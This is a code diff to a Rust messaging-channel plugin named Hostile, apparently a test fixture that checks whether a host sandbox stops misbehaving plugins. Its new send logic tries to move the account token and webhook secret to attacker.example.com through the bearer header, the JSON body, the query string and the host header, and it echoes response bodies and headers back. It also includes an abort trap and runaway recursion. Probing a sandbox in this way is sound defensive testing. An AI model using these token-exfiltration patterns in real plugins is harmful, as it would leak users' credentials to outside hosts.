@@ -75,6 +75,7 @@ impl messaging_channel::Guest for Hostile {
                 let _ = storage::set("key", b"value");
                 Err(ParseError::Other("the value was stored".into()))
             }
+            b"hello" => Ok(ParsedDelivery { events: vec![hello()] }),
             _ => Ok(ParsedDelivery { events: Vec::new() }),
         }
     }
@@ -83,18 +84,75 @@ impl messaging_channel::Guest for Hostile {
         Validation { violations: Vec::new(), degradations: Vec::new() }
     }
 
-    fn build_send_request(_: OutboundMessage, _: ConversationContext) -> Result<Vec<SendStep>, Vec<Violation>> {
-        Ok(Vec::new())
+    fn build_send_request(message: OutboundMessage, _: ConversationContext) -> Result<Vec<SendStep>, Vec<Violation>> {
+        let asked = match message.parts.first() {
+            Some(OutboundPart::Text(text)) => text.text.as_str(),
+            _ => return Ok(Vec::new()),
+        };
+        if asked == "trap" {
+            std::process::abort();
+        }
+        let url = match asked {
+            "elsewhere" => "https://elsewhere.example.com/v1/messages",
+            _ => "https://attacker.example.com/v1/messages",
+        };
+        let body =
+            if asked == "knows-a-secret" { "{\"text\":\"the-token-of-the-account\"}" } else { "{\"text\":\"x\"}" };
+        let slot = |slot: &str| FillSource::Slot(slot.into());
+        let fills = match asked {
+            "token-into-text" => vec![Fill { source: slot("token"), place: FillPlace::Json("/text".into()) }],
+            "token-into-query" => vec![Fill { source: slot("token"), place: FillPlace::Query("q".into()) }],
+            "webhook-secret" => vec![Fill { source: slot("secret"), place: FillPlace::Bearer }],
+            "host-header" => vec![Fill { source: slot("token"), place: FillPlace::Header("host".into()) }],
+            "undeclared" => vec![Fill { source: slot("other"), place: FillPlace::Bearer }],
+            _ => vec![Fill { source: slot("token"), place: FillPlace::Bearer }],
+        };
+        Ok(vec![SendStep {
+            part: 0,
+            kind: StepKind::Message,
+            rate_class: "text".into(),
+            request: HttpRequest {
+                method: HttpMethod::Post,
+                url: url.into(),
+                headers: Vec::new(),
+                body: HttpBody::Bytes(body.into()),
+                fills,
+                captures: Vec::new(),
+            },
+            repeatable: false,
+            echoed: false,
+            correlation: None,
+            text: None,
+            degradations: Vec::new(),
+        }])
     }
 
-    fn parse_send_response(_: SendStep, _: HttpResponse) -> SendOutcome {
-        std::process::abort()
+    /// Passes on everything that it was shown.
+    fn parse_send_response(_: SendStep, response: HttpResponse) -> SendOutcome {
+        let headers: Vec<_> = response.headers.iter().map(|header| header.value.as_str()).collect();
+        let sentence = format!("{} {}", String::from_utf8_lossy(&response.body), headers.join(" "));
+        let failure = Failure {
+            category: FailureCategory::Other,
+            code: None,
+            subcode: None,
+            sentence,
+            fix: None,
+            retry_after: None,
+            trace_id: None,
+        };
+        SendOutcome { result: SendResult::Rejected(failure), pause: None, reply_context: None }
     }
 }
 
 fn deeper(depth: u64) -> u64 {
     // Not a tail call, and nothing that a compiler may turn into a loop.
     if std::hint::black_box(depth) == 0 { 0 } else { deeper(depth + 1) + std::hint::black_box(1) }
+}
+
+/// Something that opens a conversation.
+fn hello() -> Event {
+    let contact = Contact { id: "victim".into(), name: None, username: None, addresses: Vec::new() };
+    Event { id: "hello".into(), account: "account".into(), contact: Some(contact), ..unknown(String::new()) }
 }
 
 fn unknown(native: String) -> Event {
